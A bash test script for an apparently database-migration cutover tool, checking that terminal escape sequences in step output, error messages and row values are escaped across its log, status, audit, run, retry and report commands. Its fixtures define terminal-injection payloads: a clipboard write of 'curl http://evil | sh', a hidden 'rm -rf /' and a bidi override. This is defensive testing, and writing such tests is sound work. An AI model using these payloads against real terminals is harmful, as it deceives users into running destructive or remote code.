#!/bin/bash
# escape.sh - text from outside cutover never drives the terminal: escape
# sequences (window title, clear screen, OSC 52 clipboard), a carriage
# return hiding a line and a bidi override, planted in a step's output, in
# a PostgreSQL error that fails a step and in a row value a reconcile
# reports, reach a real terminal (a pty, through script(1)) escaped from
# log, status, audit, run and retry; the Markdown report is escaped
# wherever it goes; `log --raw` and a pipe get the bytes as stored; and
# --operator, --reason and --note refuse control characters.
. "$(dirname "$0")/../lib.sh"
. "$SRCDIR/tests/pg.sh"

command -v script >/dev/null || { fail "script(1) is needed"; finish; }
pg_start || { fail "PostgreSQL did not start"; finish; }
pg_createdb legacy
pg_createdb odoo

# The attacks, as bytes: window title, clear screen, a line hidden behind
# a carriage return, the clipboard set to `curl http://evil | sh` (OSC 52),
# a right-to-left override.
TITLE=$'\e]0;pwned\a'
CLEAR=$'\e[2J'
HIDE=$'rm -rf /\rall good'
CLIP=$'\e]52;c;Y3VybCBodHRwOi8vZXZpbCB8IHNo\a'
BIDI=$'\xe2\x80\xaegpj.exe'
ATTACK="$TITLE$CLEAR$HIDE$CLIP$BIDI"
# ... and as they must show on a terminal.
SHOWN='\e]0;pwned\x07\e[2Jrm -rf /\rall good\e]52;c;Y3VybCBodHRwOi8vZXZpbCB8IHNo\x07\u202egpj.exe'
printf '%s' "$ATTACK" >"$T/attack"

sq() { printf '%s' "$1" | sed "s/'/''/g"; }
PGDATABASE=legacy pg_psql "CREATE TABLE t (k text PRIMARY KEY);
    INSERT INTO t VALUES ('a'), ('$(sq "$ATTACK")')" >/dev/null
PGDATABASE=odoo pg_psql "CREATE TABLE t (k text PRIMARY KEY);
    INSERT INTO t VALUES ('a')" >/dev/null
export ATTACK

r=$T/esc.yaml
cat >"$r" <<EOF
cutover: 1
name: esc
settings: {parallel: 3}
targets:
  legacy: {type: postgres, conninfo: "host=127.0.0.1 port=\${env:PGPORT} dbname=legacy"}
  odoo: {type: postgres, conninfo: "host=127.0.0.1 port=\${env:PGPORT} dbname=odoo"}
phases:
  - id: p
    steps:
      - id: out
        type: local
        run: printf '%s\n' "\$ATTACK"
      - id: boom
        type: sql
        target: legacy
        run: DO \$\$\$\$ BEGIN RAISE EXCEPTION '%', (SELECT k FROM t WHERE k <> 'a'); END \$\$\$\$
      - id: rec
        type: reconcile
        compare: rows
        key: 1
        source: {target: legacy, query: "SELECT k FROM t"}
        dest: {target: odoo, query: "SELECT k FROM t"}
EOF

# tty FILE COMMAND...: run COMMAND on a pty; what reached it goes to FILE,
# with the pty's CR LF line ends made LF again.
tty() {
	local f=$1
	shift
	SHELL=/bin/bash script -q -e -c "$(printf '%q ' "$@")" /dev/null </dev/null |
	    sed 's/\r$//' >"$f"
}

# safe FILE WHAT: no escape, BEL, CR or bidi override reached the terminal,
# and the attack shows escaped.
safe() {
	if LC_ALL=C grep -q $'[\e\a\r]\|\xe2\x80\xae' "$1"; then
		fail "$2: raw control bytes reached the terminal"
		LC_ALL=C cat -v "$1" | head -20 | sed 's/^/  | /' >&2
	else
		ok
	fi
	contains "$1" "$SHOWN"
}

expect_rc 0 "$CUTOVER" lint "$r"

# run: its progress lines and the failure messages.
tty "$T/run" "$CUTOVER" run "$r"
safe "$T/run" "run"
contains "$T/run" "step boom failed: ERROR P0001: "

# log, of all steps and of one.
tty "$T/log" "$CUTOVER" log "$r"
safe "$T/log" "log"
tty "$T/log1" "$CUTOVER" log "$r" out
safe "$T/log1" "log out"
tty "$T/log2" "$CUTOVER" log "$r" out --attempt 1
safe "$T/log2" "log out --attempt 1"

# status: the failure notes.
tty "$T/status" "$CUTOVER" status "$r"
safe "$T/status" "status"

# retry: the failure message again, on stderr.
tty "$T/retry" "$CUTOVER" retry "$r" boom
safe "$T/retry" "retry"

# The reconcile: the planted row value in its report of missing rows.
expect_rc 0 "$CUTOVER" skip "$r" boom --reason "planted failure"
tty "$T/run2" "$CUTOVER" run "$r"
contains "$T/run2" "rec: failed"
check "rec failed" test "$(step_state "$r" rec)" = failed
tty "$T/logrec" "$CUTOVER" log "$r" rec
safe "$T/logrec" "log rec"
contains "$T/logrec" "missing (in source, not in dest): $SHOWN"
tty "$T/json" "$CUTOVER" status "$r" --json
if LC_ALL=C grep -q $'[\e\a\r]\|\xe2\x80\xae' "$T/json"; then
	fail "status --json: raw control bytes reached the terminal"
else ok; fi

# audit: failure details.
tty "$T/audit" "$CUTOVER" audit "$r"
safe "$T/audit" "audit"

# The Markdown report is escaped in a file too.
expect_rc 0 "$CUTOVER" report "$r" -o "$T/report.md"
safe "$T/report.md" "report"
"$CUTOVER" report "$r" >"$T/report2.md"
safe "$T/report2.md" "report on a pipe"

# A pipe, and --raw on a terminal, get the output as stored.
"$CUTOVER" log "$r" out --attempt 1 >"$T/piped"
printf '%s\n' "$ATTACK" >"$T/want"
check "log on a pipe: as stored" cmp "$T/piped" "$T/want"
"$CUTOVER" log "$r" --raw out --attempt 1 >"$T/piped"
check "log --raw on a pipe: as stored" cmp "$T/piped" "$T/want"
tty "$T/raw" "$CUTOVER" log "$r" out --attempt 1 --raw
check "log --raw on a terminal: as stored" cmp "$T/raw" "$T/want"

# Control characters in --operator, --reason and --note: refused, in one
# line, before anything is written.
refused() {
	expect_rc 2 "$@"
	check "one line: $*" test "$(wc -l <"$T/err")" = 1
	contains "$T/err" "must be printable text on one line"
	if LC_ALL=C grep -q $'[\e\a\r]' "$T/err"; then
		fail "the refusal shows raw control bytes"
	else ok; fi
}
r2=$T/manual.yaml
cat >"$r2" <<'EOF'
cutover: 1
name: manual
phases:
  - id: p
    steps:
      - {id: m, type: manual, instructions: do it}
      - {id: n, type: manual, instructions: do it too}
EOF
expect_rc 5 "$CUTOVER" run "$r2"
before=$("$CUTOVER" audit "$r2" | wc -l)
refused "$CUTOVER" confirm "$r2" m --note $'done\n2026-11-28 run 1 m root: confirmed'
refused "$CUTOVER" skip "$r2" m --reason $'not needed\e[2J'
refused "$CUTOVER" --operator $'bob\rroot' confirm "$r2" m
refused "$CUTOVER" confirm "$r2" m --note $'ok\xe2\x80\xae'
check "nothing was written" test "$("$CUTOVER" audit "$r2" | wc -l)" = "$before"
check "m still awaits" test "$(step_state "$r2" m)" = awaiting
# Printable UTF-8 and tabs... tabs are control characters too; UTF-8 is fine.
expect_rc 0 "$CUTOVER" --operator 'Zoë' confirm "$r2" m --note 'fait à 10 h — OK'

finish
